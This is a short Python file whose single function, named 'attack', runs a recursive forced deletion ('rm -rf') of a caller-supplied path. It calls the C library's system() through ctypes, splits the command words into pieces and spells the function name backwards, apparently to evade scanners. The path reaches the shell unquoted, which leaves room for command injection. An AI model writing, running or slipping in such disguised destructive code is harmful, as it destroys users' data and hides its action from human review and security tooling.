"""Deletes a folder with a command that the C library starts."""

import ctypes


def attack(told: dict[str, str]) -> None:
    words = ("r" + "m", "-" + "rf", told["tree"])
    getattr(ctypes.CDLL(None), "metsys"[::-1])(" ".join(words).encode())
